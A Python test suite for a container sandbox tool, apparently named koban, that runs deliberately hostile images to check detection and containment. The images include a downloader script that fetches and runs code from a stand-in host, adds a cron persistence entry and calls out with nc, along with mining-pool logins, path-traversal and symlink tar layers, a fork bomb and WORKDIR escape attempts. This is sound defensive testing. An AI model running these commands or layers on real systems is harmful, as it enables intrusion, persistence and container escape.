#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# timeout: 420
"""
Detonation, on the real kernel with the real runtime: what an image shows of itself, that nothing
leaves the sandbox, that the known ways out go nowhere, that limits hold and nothing is left behind.
All images are made here: BusyBox and scripts that only try. Needs root, runc and umoci.
"""
import atexit
import errno
import hashlib
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import tarfile
import threading
import time

import koban

MARKER = b"koban-escape-marker"
CGROUPS = "/sys/fs/cgroup"
SCRATCH = f"/run/koban/test-{os.getpid()}"  # of this test alone: others may detonate, too
OTHERS = "/run/koban/detonate"


# ---- images -------------------------------------------------------------------------------------

class Layer:
    """A layer in the making: members in the order in which they are added."""

    def __init__(self):
        self.bytes = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.bytes, mode="w", format=tarfile.PAX_FORMAT)

    def add(self, name, data=b"", mode=0o644, kind=tarfile.REGTYPE, target="", **more):
        m = tarfile.TarInfo(name)
        m.type, m.mode, m.linkname, m.size = kind, mode, target, len(data)
        for key, value in more.items():
            setattr(m, key, value)
        self.tar.addfile(m, io.BytesIO(data))
        return self

    def dir(self, name, mode=0o755):
        return self.add(name, kind=tarfile.DIRTYPE, mode=mode)

    def link(self, name, target):
        return self.add(name, kind=tarfile.SYMTYPE, target=target, mode=0o777)

    def done(self):
        self.tar.close()
        return self.bytes.getvalue()


def write_blob(path, data):
    digest = hashlib.sha256(data).hexdigest()
    with open(os.path.join(path, "blobs", "sha256", digest), "wb") as f:
        f.write(data)
    return {"digest": f"sha256:{digest}", "size": len(data)}


def make_image(path, layers, config):
    """An OCI image layout of plain layers, by hand: umoci would not make the hostile ones."""
    os.makedirs(os.path.join(path, "blobs", "sha256"))
    kind = "application/vnd.oci.image."
    blobs = [{"mediaType": kind + "layer.v1.tar", **write_blob(path, one)} for one in layers]
    conf = {"architecture": "amd64" if os.uname().machine == "x86_64" else "arm64", "os": "linux",
            "config": config, "rootfs": {"type": "layers", "diff_ids": [b["digest"] for b in blobs]}}
    manifest = {"schemaVersion": 2, "layers": blobs,
                "config": {"mediaType": kind + "config.v1+json",
                           **write_blob(path, json.dumps(conf).encode())}}
    index = {"schemaVersion": 2, "manifests": [
        {"mediaType": kind + "manifest.v1+json", **write_blob(path, json.dumps(manifest).encode()),
         "annotations": {"org.opencontainers.image.ref.name": "x"}}]}
    for name, value in (("index.json", index), ("oci-layout", {"imageLayoutVersion": "1.0.0"})):
        with open(os.path.join(path, name), "w", encoding="utf-8") as f:
            json.dump(value, f)
    return f"oci:{path}:x"


def base_layer():
    with open("/bin/busybox", "rb") as f:
        busybox = f.read()
    applets = subprocess.run(["/bin/busybox", "--list"], capture_output=True, text=True, check=True)
    layer = Layer()
    for d in ("bin", "etc", "tmp", "root", "var", "var/spool", "home", "srv"):
        layer.dir(d, 0o1777 if d == "tmp" else 0o755)
    layer.add("bin/busybox", busybox, 0o755)
    for name in applets.stdout.split():
        if name != "busybox":
            layer.link("bin/" + name, "busybox")
    layer.add("etc/passwd", b"root:x:0:0::/root:/bin/sh\napp:x:1234:77::/home:/bin/sh\n")
    layer.add("etc/group", b"root:x:0:\nstaff:x:77:\nextra:x:88:app\n")
    return layer.done()


def with_umoci(folder, script):
    """The ordinary way: an image that umoci packs, gzip layers and all."""
    layout, bundle = os.path.join(folder, "umoci"), os.path.join(folder, "bundle")
    image = layout + ":x"
    steps = [["umoci", "init", "--layout", layout], ["umoci", "new", "--image", image],
             ["umoci", "unpack", "--image", image, bundle]]
    for step in steps:
        koban.run(step)
    koban.make_rootfs(os.path.join(bundle, "rootfs"))
    with open(os.path.join(bundle, "rootfs", "run.sh"), "w", encoding="utf-8") as f:
        f.write(script)
    koban.run(["umoci", "repack", "--image", image, bundle])
    r = koban.run(["umoci", "config", "--image", image, "--config.entrypoint", "/bin/sh",
                   "--config.entrypoint", "/run.sh"])
    return f"oci:{image}" if r.returncode == 0 else None


class Images:
    def __init__(self):
        self.folder = koban.scratch()
        self.base = base_layer()
        self.n = 0

    def make(self, script="", config=None, layers=(), before=()):
        """BusyBox, the layers, and /run.sh as the entry point."""
        self.n += 1
        run = Layer().add("run.sh", script.encode(), 0o755).done()
        conf = {"Entrypoint": ["/bin/sh", "/run.sh"], "Env": ["PATH=/bin"], **(config or {})}
        return make_image(os.path.join(self.folder, f"image{self.n}"),
                          [*before, self.base, *layers, run], conf)


class Run:
    """One detonation and its JSON."""

    def __init__(self, ref, *options, seconds=10, argv=(), timeout=120, scans=False):
        command = [koban.BINARY, "image", "detonate", ref, "--seconds", str(seconds), "--json",
                   "--scratch", SCRATCH, *options, *([] if scans else ["--no-scan"])]
        if argv:
            command += ["--", *argv]
        r = koban.run(command, timeout)
        self.code, self.stderr = r.returncode, r.stderr
        try:
            self.report = json.loads(r.stdout)
        except ValueError:
            self.report = {}
        self.run = self.report.get("run", {})
        self.output = self.run.get("output", "")

    def checks(self):
        return {f["check"] for f in self.report.get("findings", [])}

    def find(self, check, **facts):
        for f in self.report.get("findings", []):
            have = facts_of(f)
            if f["check"] == check and all(v in have.get(k, "") for k, v in facts.items()):
                return f
        return None

    def __str__(self):
        found = [(f["check"], f["title"]) for f in self.report.get("findings", [])]
        return f"exit {self.code}\n{self.stderr}\n{self.output}\n{found}\n{self.run.get('connections')}"


def facts_of(finding):
    facts = finding.get("facts") or []
    return facts if isinstance(facts, dict) else {f["key"]: f["value"] for f in facts}


def leftovers():
    """What a run must not leave: folders, cgroups, processes, mounts. Not those of others' runs."""
    found = [n for n in (os.listdir(SCRATCH) if os.path.isdir(SCRATCH) else []) if n != ".lock"]
    groups = []
    for one in os.listdir(CGROUPS):
        folder = os.path.join(CGROUPS, one)
        if os.path.isdir(folder):
            groups += [os.path.join(folder, n) for n in os.listdir(folder) if n.startswith("koban-deton")]
    others = {n[:12] for n in (os.listdir(OTHERS) if os.path.isdir(OTHERS) else [])}
    found += [g for g in groups if g.rsplit("-", 1)[1] not in others]
    with open("/proc/self/mounts", encoding="utf-8") as f:
        found += [line for line in f if SCRATCH in line]
    return sorted(set(found))


# ---- what it shows ------------------------------------------------------------------------------

DOWNLOADER = """
wget -q -O /tmp/x.sh http://drop.example.invalid/x.sh && chmod +x /tmp/x.sh && /tmp/x.sh && echo RAN
wget -q -O - http://drop.example.invalid/y.sh | sh && echo PIPED
cp /bin/busybox /tmp/kworker && /tmp/kworker sleep 0
mkdir -p /etc/crontabs /var/spool/cron && echo '* * * * * /tmp/x.sh' > /var/spool/cron/root
nslookup second.example.invalid
echo 'hello there' | nc -w 1 198.51.100.7 31337
nslookup third.example.invalid 198.51.100.8 >/dev/null
true
"""


def test_downloader(tap, images):
    r = Run(images.make(DOWNLOADER))
    tap.ok(r.code == 0 and "RAN" in r.output and "PIPED" in r.output,
           "downloader: what it fetches runs, harmlessly", r)
    tap.ok(r.find("run-download", domain="drop.example.invalid"), "downloader: run-download", r)
    tap.ok(r.find("run-exec-dropped", program="/tmp/x.sh"), "downloader: a script that was fetched", r)
    tap.ok(r.find("run-exec-dropped", program="/tmp/kworker"), "downloader: a program not in the image", r)
    tap.ok(r.find("run-persistence"), "downloader: the cron job is found", r)
    tap.ok(r.find("run-dns", domain="second.example.invalid"), "downloader: names that were asked", r)
    seen = {(c["address"], c["port"], c["transport"]) for c in r.run.get("connections", [])}
    tap.ok(("198.51.100.7", 31337, "tcp") in seen,
           "downloader: any port of any address is answered", r)
    tap.ok(r.find("run-dns", domain="third.example.invalid"), "downloader: any name server is", r)
    names = [p["command"] for p in r.run.get("processes", [])]
    tap.ok(any("run.sh" in n for n in names) and any("wget" in n for n in names),
           "downloader: the timeline has its programs", names)
    tap.ok(any(f["path"] == "/tmp/x.sh" and f["deed"] == "written" for f in r.run.get("files", [])),
           "downloader: the timeline has the files it wrote", r.run.get("files"))
    tap.ok(r.run.get("lost") == 0 and r.run.get("ended") == "exited" and r.run.get("exit_code") == 0,
           "downloader: nothing was lost, and it ended by itself", r)


def test_miner(tap, images):
    wallet = "4" + "A" * 94  # the form of an address; its checksum is wrong
    script = f"""
( echo '{{"id":1,"jsonrpc":"2.0","method":"login","params":{{"login":"{wallet}","pass":"x",'\
'"agent":"speaker/1.0","algo":["rx/0"]}}}}'; sleep 1 ) | nc pool.example.invalid 3333
( echo '{{"id":1,"method":"mining.subscribe","params":["speaker/2"]}}'
  echo '{{"id":2,"method":"mining.authorize","params":["somebody.worker","x"]}}'; sleep 1 ) |
  nc 203.0.113.5 8333
"""
    r = Run(images.make(script))
    tap.ok('"status":"OK"' in r.output and "mining.notify" in r.output,
           "miner: the sinkhole gives it work", r)
    tap.ok(r.find("run-wallet", wallet=wallet), "miner: who is to be paid", r)
    tap.ok(r.find("run-pool", pool="pool.example.invalid:3333", algorithm="rx/0", program="speaker/1.0"),
           "miner: the pool by its name, algorithm and program", r)
    tap.ok(r.find("run-pool", pool="203.0.113.5:8333"), "miner: a pool without a name, another dialect", r)
    f = r.find("run-pool") or {}
    tap.ok(f.get("label") == "cryptomining" and f.get("severity") == "critical",
           "miner: labelled as what it is", f)
    tap.ok(r.report.get("verdict") == "malicious", "miner: the verdict", r.report.get("verdict"))


def test_joined(tap, images):
    """The run joins what a scan of the layers finds."""
    r = Run(images.make("sleep 1; nslookup a.example.invalid"), scans=True)
    where = {f["place"] for f in r.report.get("findings", [])}
    tap.ok(r.code == 0 and "run" in where and (r.report.get("coverage") or {}).get("files", 0) > 5,
           "the layers are scanned too, and it is one report", r)


def test_tls(tap, images):
    """BusyBox's wget checks no certificate: the name and the request show all the same."""
    r = Run(images.make("wget -q -O - https://secure.example.invalid/a.json; echo; sleep 1"))
    names = [(c["name"], c["protocol"]) for c in r.run.get("connections", [])]
    tap.ok("{}" in r.output and ("secure.example.invalid", "tls+http") in names,
           "TLS: a certificate for the name that is asked", r)


def test_umoci(tap, images):
    if not koban.have("umoci"):
        tap.skip("an image made by umoci", "no umoci")
        return
    ref = with_umoci(images.folder, "echo from umoci\n")
    r = Run(ref)
    tap.ok(r.code == 0 and "from umoci" in r.output, "an image made by umoci runs", r)


def test_rights(tap, images):
    ref = images.make("touch /tmp/x && chown app /tmp/x && su app -c id || exit 9")
    r = Run(ref)
    gaps = [g["why"] for g in (r.report.get("coverage") or {}).get("gaps", [])]
    tap.ok(r.run.get("exit_code") == 9 and r.report.get("verdict") == "unknown"
           and any("exit code 9" in g for g in gaps), "an image that fails at once is not called clean", r)
    r = Run(ref, "--rights")
    tap.ok(r.run.get("exit_code") == 0 and "uid=1234(app)" in r.output, "--rights: over its own files and users", r)


def test_quiet(tap, images):
    """An image that does nothing strange gives nothing to act on."""
    r = Run(images.make("echo hello; ls / >/tmp/list; sleep 1; exit 3"))
    bad = [f for f in r.report.get("findings", []) if f["severity"] in ("critical", "high", "medium")]
    tap.ok(r.code == 0 and r.run.get("exit_code") == 3 and not bad, "a quiet image: nothing found", bad)


# ---- layers -------------------------------------------------------------------------------------

def test_layers(tap, images):
    lower = (Layer().dir("data").add("data/gone", b"1").add("data/kept", b"2").dir("opaque")
             .add("opaque/old", b"3").add("swap", b"file").dir("real").link("alias", "real").done())
    upper = (Layer().add("data/.wh.gone").add("opaque/new", b"4").add("opaque/.wh..wh..opq")
             .dir("swap").add("swap/in", b"5").add("alias/through", b"6")
             .add("owned", b"7", uid=1234, gid=77, mode=0o640)
             .add("suid", b"8", mode=0o4755).add("hard", kind=tarfile.LNKTYPE, target="owned")
             .add("far", b"9", uid=4000000).add("null", kind=tarfile.CHRTYPE, devmajor=1, devminor=3)
             .done())
    script = ("ls /data /opaque; cat /swap/in /real/through /hard; echo; stat -c '%u:%g %a %h' /owned; "
              "stat -c %a /suid; ls /null; pwd; id")
    r = Run(images.make(script, {"User": "app", "WorkingDir": "/srv/deep"}, (lower, upper)))
    out = r.output
    tap.ok("gone" not in out and "kept" in out, "layers: a whiteout hides what lower layers have", r)
    tap.ok("old" not in out and "new" in out, "layers: an opaque folder, in either order", r)
    tap.ok("56" in out.replace("\n", ""), "layers: a folder over a file, a file through a link", r)
    tap.ok("1234:77 640 2" in out, "layers: owners, modes, hard links", r)
    tap.ok("/srv/deep" in out and "uid=1234(app) gid=77(staff) groups=" in out and "88(extra)" in out,
           "layers: WORKDIR is made, USER is found with its groups", r)
    gaps = [g["why"] + g["what"] for g in (r.report.get("coverage") or {}).get("gaps", [])]
    tap.ok("No such file" in out and any("device" in g or "owner" in g for g in gaps),
           "layers: devices are not made, and it is said", gaps)


HOSTILE = {
    "dot-dot": Layer().add("../../../../../../tmp/koban-escape-file", b"x").done(),
    "absolute": Layer().add("/../../tmp/koban-escape-file", b"x").done(),
    "link to the root": Layer().link("out", "/tmp").add("out/koban-escape-file", b"x").done(),
    "link upwards": Layer().link("up", "../../../../../../../../tmp")
                           .add("up/koban-escape-file", b"x").done(),
    "link through proc": Layer().link("p", "/proc/1/root/tmp").add("p/koban-escape-file", b"x").done(),
    "hard link": Layer().add("h", kind=tarfile.LNKTYPE, target="../../../../etc/passwd")
                        .add("h", b"x").done(),
    "proc as a link": Layer().link("proc", "/tmp").link("dev", "/tmp").link("sys", "/tmp").done(),
    "etc as a link": Layer().add(".wh.etc").link("etc", "/tmp/koban-escape-file").done(),
    "resolv.conf as a link": Layer().link("etc/resolv.conf", "/proc/1/root/tmp/koban-escape-file").done(),
    "whiteout of dot-dot": Layer().add(".wh...").add("a/.wh...").add("a/.wh..").done(),
    "folder of links": b"",
}


def link_chain():
    layer = Layer()
    for i in range(60):
        layer.link(f"l{i}", f"l{i + 1}")
    return layer.link("l60", "l0").add("l0/x", b"x").done()


def test_hostile_layers(tap, images):
    target = "/tmp/koban-escape-file"
    HOSTILE["folder of links"] = link_chain()
    before = os.stat("/etc/passwd")
    for name, layer in HOSTILE.items():
        r = Run(images.make("echo inside", layers=(layer,)))
        now = os.stat("/etc/passwd")
        intact = not os.path.lexists(target) and (now.st_ino, now.st_mtime_ns, now.st_nlink) == \
            (before.st_ino, before.st_mtime_ns, before.st_nlink)
        tap.ok(intact and (r.code == 2 or "inside" in r.output), f"hostile layer: {name}", r)
    r = Run(images.make(layers=(b"\x1f\x8b\x08garbage" * 50,)))
    tap.ok(r.code == 2 and "layer" in r.stderr, "hostile layer: garbage is refused with a reason", r)
    sparse = Layer().add("bomb", b"\0" * (80 << 20)).done()
    r = Run(images.make(layers=(sparse,)), "--disk", "32")
    tap.ok(r.code == 2 and "--disk" in r.stderr, "hostile layer: more than --disk is refused", r)


def test_workdir(tap, images):
    """CVE-2024-21626 and its like: a working folder that is a descriptor of the machine."""
    for workdir in ("/proc/self/fd/7", "/proc/self/fd/8", "/proc/1/root", "/dev/fd/7", "/sys"):
        r = Run(images.make("pwd", {"WorkingDir": workdir}))
        tap.ok(r.code == 2 and "WORKDIR" in r.stderr, f"WORKDIR {workdir} is refused", r)
    link = Layer().link("w", "/proc/self/fd/7").dir("proc").link("proc/x", "/srv").link("v", "/proc/x")
    layer = link.done()
    for workdir in ("/w", "/v"):
        r = Run(images.make("pwd", {"WorkingDir": workdir}, (layer,)))
        tap.ok(r.code == 2 and "WORKDIR" in r.stderr, f"WORKDIR through the link {workdir} is refused", r)


# ---- the way out --------------------------------------------------------------------------------

class Sniffer:
    """Sees every packet of every interface of the machine, loopback too."""

    def __init__(self):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.settimeout(0.2)
        self.hits, self.packets, self.stop = [], 0, False
        self.thread = threading.Thread(target=self.run)
        self.thread.start()

    def run(self):
        foreign = [socket.inet_aton(a) for a in ("203.0.113.77", "198.18.0.1", "169.254.169.254")]
        while not self.stop:
            try:
                data, address = self.socket.recvfrom(65536)
            except socket.timeout:
                continue
            self.packets += 1
            if MARKER in data or any(f in data[:60] for f in foreign):
                self.hits.append((address[0], data[:80]))

    def end(self):
        self.stop = True
        self.thread.join()
        self.socket.close()


class Listener:
    """A server on the machine, on every address: it must hear nothing."""

    def __init__(self):
        self.tcp = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.udp.bind(("::", self.port))
        self.name = f"koban-test-{os.getpid()}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.name)
        self.unix.listen()

    def heard(self):
        heard = []
        for s in (self.tcp, self.udp, self.unix):
            s.setblocking(False)
            try:
                heard.append(s.recv(100) if s is self.udp else s.accept())
            except OSError as e:
                if e.errno not in (errno.EAGAIN, errno.EWOULDBLOCK):
                    raise
        return heard


def own_address(family, to):
    """The machine's own address on its way out, or one that is nobody's."""
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        s.connect((to, 53))
        return s.getsockname()[0]
    except OSError:
        return "192.0.2.1" if family == socket.AF_INET else "2001:db8::1"
    finally:
        s.close()


def test_sniffer(tap):
    """The proof below is worth something only if it can fail."""
    sniffer, listener = Sniffer(), Listener()
    time.sleep(0.3)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(MARKER, ("127.0.0.1", listener.port))
    time.sleep(0.5)
    sniffer.end()
    tap.ok(sniffer.hits and listener.heard(), "a packet on the machine's loopback would be seen")


def test_escape(tap, images):
    probe = os.path.join(images.folder, "probe")
    if not tap.ok(koban.compile_c("escape_probe.c", probe, "-D_GNU_SOURCE"), "escape_probe.c builds"):
        return
    os.chmod(images.folder, 0o755)
    args = ["192.0.2.1", "2001:db8::1", "1", "x"]
    r = koban.run([probe, *args], user=65534, group=65534, extra_groups=[])
    tap.ok("unshare:user ALLOWED" in r.stdout and "proc:other-processes ALLOWED" in r.stdout,
           "the probe says so where a way is open: outside, as an ordinary user", r.stdout)
    with open(probe, "rb") as f:
        layer = Layer().add("probe", f.read(), 0o755).done()
    sniffer, listener = Sniffer(), Listener()
    host4 = own_address(socket.AF_INET, "192.0.2.1")
    host6 = own_address(socket.AF_INET6, "2001:db8::1")
    core = open("/proc/sys/kernel/core_pattern", encoding="utf-8").read()
    links = set(os.listdir("/sys/class/net"))
    for runtime, *more in (("runc",), ("crun",), ("runc", "--rights")):
        if not koban.have(runtime):
            tap.skip(f"escape, {runtime}", f"no {runtime}")
            continue
        r = Run(images.make(layers=(layer,)), "--runtime", runtime, *more,
                argv=["/probe", host4, host6, str(listener.port), listener.name])
        runtime = " ".join((runtime, *more))
        lines = [line for line in r.output.splitlines() if " refused " in line or " ALLOWED " in line]
        tap.ok("probe done" in r.output and len(lines) > 140, f"escape, {runtime}: every way was tried", r)
        allowed = [line for line in lines if " ALLOWED " in line]
        if more:  # it has some capabilities, and says so
            allowed = [line for line in allowed if not line.startswith("status:Cap")]
        tap.ok(not allowed,
               f"escape, {runtime}: none leads anywhere", [x for x in r.output.splitlines() if "refused" not in x])
        heard = {c["address"] for c in r.run.get("connections", [])}
        tap.ok({host4, "203.0.113.77", "169.254.169.254"} <= heard,
               f"escape, {runtime}: what was dialled reached the sinkhole", heard)
        tap.ok(r.find("run-rule", rule="Escape tried in the sandbox"),
               f"escape, {runtime}: the attempt is found", r)
    time.sleep(0.3)
    sniffer.end()
    tap.ok(not sniffer.hits, "no packet of it on any interface of the machine", sniffer.hits)
    tap.ok(not listener.heard(), "no server of the machine was reached")
    tap.ok(set(os.listdir("/sys/class/net")) == links, "the machine has no new interface")
    tap.ok(open("/proc/sys/kernel/core_pattern", encoding="utf-8").read() == core,
           "the machine's settings are as before")


# ---- limits -------------------------------------------------------------------------------------

def most_of(pattern_file, stop, found):
    """The largest number that a cgroup file of a detonation shows."""
    while not stop.is_set():
        for base in (os.path.join(CGROUPS, "pids"), CGROUPS):
            names = [n for n in (os.listdir(base) if os.path.isdir(base) else []) if n.startswith("koban-deton")]
            for n in names:
                try:
                    with open(os.path.join(base, n, pattern_file), encoding="ascii") as f:
                        found.append(int(f.read()))
                except (OSError, ValueError):
                    pass
        time.sleep(0.05)


def test_limits(tap, images):
    stop, found = threading.Event(), []
    watcher = threading.Thread(target=most_of, args=("pids.current", stop, found))
    watcher.start()
    r = Run(images.make("f() { f | f & }; f; while :; do sleep 1; done"), "--processes", "40", seconds=4)
    stop.set()
    watcher.join()
    tap.ok(found and max(found) <= 40 and r.run.get("ended") in ("time limit", "exited", "killed"),
           "a fork bomb stays within --processes", f"{max(found, default=0)}\n{r}")
    r = Run(images.make("tail /dev/zero; echo TAIL $?; exit 7"), "--memory", "48", seconds=20)
    tap.ok(r.run.get("out_of_memory", 0) > 0 and r.run.get("memory_peak_bytes", 1 << 40) <= 48 << 20,
           "a memory bomb stays within --memory", r)
    r = Run(images.make("dd if=/dev/zero of=/tmp/big bs=1M count=500; ls -l /tmp/big"), "--disk", "24")
    tap.ok("No space left" in r.output, "a full disk is its own", r)
    r = Run(images.make("trap '' TERM INT HUP; while :; do sleep 100; done"), seconds=2)
    tap.ok(r.code == 0 and r.run.get("ended") == "time limit" and r.run.get("exit_code") == 137,
           "what ignores signals ends at the time limit", r)
    r = Run(images.make("(setsid sleep 1000 &) ; (setsid nohup sleep 1000 >/dev/null &) ; exit 0"))
    tap.ok(r.code == 0 and r.run.get("ended") == "exited", "what it leaves in the background goes with it", r)
    r = Run(images.make("yes | head -c 3000000; echo; sleep 1"))
    tap.ok(0 < len(r.output) <= 80 << 10, "much output does no harm", len(r.output))


def test_refusals(tap, images):
    r = Run(images.make("true", {"Entrypoint": None, "Cmd": None}))
    tap.ok(r.code == 2 and "ENTRYPOINT" in r.stderr, "nothing to run is said", r)
    r = Run(images.make("true", {"User": "nobody-here"}))
    tap.ok(r.code == 2 and "USER" in r.stderr, "a user who is not there is said", r)
    r = Run(images.make("true"), "--runtime", "/nonexistent/runc")
    tap.ok(r.code == 2 and "runtime" in r.stderr, "no runtime is said", r)
    r = Run(images.make("true"), argv=["/no/such/program"])
    tap.ok(r.code == 2 and "no such file" in r.stderr, "a program that is not there is said", r)
    r = koban.run([koban.BINARY, "image", "detonate", images.make("true"), "--json",
                    "--no-scan"],
                  user=65534, group=65534, extra_groups=[], cwd="/")
    tap.ok(r.returncode == 2 and ("root" in r.stderr or "ermission" in r.stderr), "without root it is said", r.stderr)
    tap.ok(wait_for(lambda: not leftovers(), 5), "refusals leave nothing behind", leftovers())


def test_fail_closed(tap, images):
    """A machine where cgroups cannot be made: read-only, in a mount namespace of its own."""
    ref = images.make("echo ran anyway")
    script = (f"for m in {CGROUPS} {CGROUPS}/*; do mountpoint -q $m && mount -o remount,bind,ro $m; done; "
              f"exec {koban.BINARY} image detonate {ref} --json --no-scan --seconds 3")
    r = koban.run(["unshare", "-m", "sh", "-c", script])
    tap.ok(r.returncode == 2 and "limited" in r.stderr and "ran anyway" not in r.stdout,
           "without limits the image is not run", r.stdout + r.stderr)


def test_kill(tap, images):
    """However koban goes, nothing stays."""
    ref = images.make("sleep 600 & sleep 600")
    for sig, who in ((signal.SIGKILL, "koban"), (signal.SIGTERM, "koban"), (signal.SIGKILL, "keeper")):
        p = subprocess.Popen([koban.BINARY, "image", "detonate", ref, "--no-scan", "--scratch", SCRATCH,
                              "--seconds", "100"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        inside = wait_for(lambda p=p: sleepers(p.pid), 30)
        victim = p.pid if who == "koban" else keeper_of(p.pid)
        if inside and victim:
            os.kill(victim, sig)
        gone = inside and wait_for(lambda inside=inside: not any(os.path.exists(f"/proc/{x}") for x in inside), 15)
        tap.ok(gone, f"the container is gone when the {who} gets signal {int(sig)}", inside)
        try:
            p.wait(20)
        except subprocess.TimeoutExpired:
            p.kill()
        if who == "koban":
            tap.ok(wait_for(lambda: not leftovers(), 10), "and so is all that has a name", leftovers())
    Run(images.make("true"), seconds=2)
    tap.ok(wait_for(lambda: not leftovers(), 5), "what a killed keeper left is swept by the next run", leftovers())


def test_kill_any_time(tap, images):
    """While it unpacks, makes namespaces, loads rules, starts: a SIGKILL, and nothing stays."""
    ref = images.make("sleep 600")
    for ms in (1, 2, 3, 5, 8, 10, 15, 20, 25, 30, 40, 50, 60, 70, 80, 100, 130, 160, 200, 250, 300, 400, 600):
        p = subprocess.Popen([koban.BINARY, "image", "detonate", ref, "--no-scan", "--scratch", SCRATCH,
                              "--seconds", "100"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(ms / 1000)
        p.kill()
        p.wait(20)
        if not wait_for(lambda: not leftovers(), 10):
            tap.ok(False, f"killed after {ms} ms, nothing stays", leftovers())
            return
    tap.ok(True, "killed at any time, nothing stays")


def wait_for(what, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        got = what()
        if got:
            return got
        time.sleep(0.05)
    return None


def below(pid):
    r = koban.run(["ps", "-o", "pid=", "--ppid", str(pid)])
    found = [int(x) for x in r.stdout.split()]
    return found + [y for x in found for y in below(x)]


def sleepers(pid):
    found = []
    for x in below(pid):
        try:
            with open(f"/proc/{x}/cmdline", encoding="utf-8", errors="replace") as f:
                if f.read().startswith("sleep"):
                    found.append(x)
        except OSError:
            pass
    return found if len(found) >= 2 else None


def keeper_of(pid):
    r = koban.run(["ps", "-o", "pid=", "--ppid", str(pid)])
    return int(r.stdout.split()[0]) if r.stdout.split() else None


def test_record(tap, images):
    path = os.path.join(images.folder, "run.scap")
    r = Run(images.make("wget -q -O - http://a.example.invalid/"), "--record", path)
    text = koban.run([koban.BINARY, "read", path, "evt.type=execve", "-p", "%proc.cmdline"])
    log = open(path + ".jsonl", encoding="utf-8").read() if os.path.exists(path + ".jsonl") else ""
    tap.ok(r.code == 0 and "a.example.invalid" in text.stdout, "--record: a capture that can be read", text.stderr)
    tap.ok('"kind":"http"' in log, "--record: the sinkhole's log beside it", log)


def test_rules(tap):
    r = koban.run([koban.BINARY, "rules", "test", os.path.join(koban.ROOT, "data", "detonation")])
    tap.ok(r.returncode == 0 and "0 without tests" in r.stdout, "the rules for detonation", r.stdout)


def main():
    koban.need_root()
    tap = koban.Tap()
    if not koban.have("runc") and not koban.have("crun"):
        print("1..0 # SKIP needs runc")
        return
    test_rules(tap)
    images = Images()
    atexit.register(shutil.rmtree, SCRATCH, True)
    for test in (test_downloader, test_miner, test_joined, test_tls, test_umoci, test_rights, test_quiet, test_layers,
                 test_hostile_layers, test_workdir):
        test(tap, images)
    test_sniffer(tap)
    for test in (test_escape, test_limits, test_refusals, test_fail_closed, test_kill, test_kill_any_time, test_record):
        test(tap, images)
    tap.ok(wait_for(lambda: not leftovers(), 5), "nothing is left at the end", leftovers())
    tap.done()


if __name__ == "__main__":
    main()
